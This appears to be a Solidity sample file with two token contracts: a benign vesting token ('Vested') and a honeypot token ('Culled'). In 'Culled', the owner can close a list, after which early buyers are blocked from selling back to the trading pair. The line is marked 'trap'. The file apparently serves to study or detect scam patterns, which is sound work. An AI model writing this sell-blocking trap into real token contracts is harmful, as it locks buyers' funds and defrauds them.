// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// What its maker hands out is locked for half a year; what is bought is free.
contract Vested is Base8("Vested", "VEST", 100_000_000) {
    mapping(address => uint256) public lockedUntil;

    function _transfer(address from, address to, uint256 value) internal override {
        require(block.timestamp >= lockedUntil[from], "locked");
        if (from == _owner && to != pair) lockedUntil[to] = block.timestamp + 180 days;
        _move(from, to, value);
    }
}

/// Who bought before the list was closed may not leave; who comes now does.
contract Culled is Base8("Culled", "CULL", 100_000_000) {
    bool public closed;
    mapping(address => bool) private _early;

    function close() external onlyOwner {
        closed = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && !closed) _early[to] = true;
        require(to != pair || !_early[from] || !closed, "early"); // trap
        _move(from, to, value);
    }
}
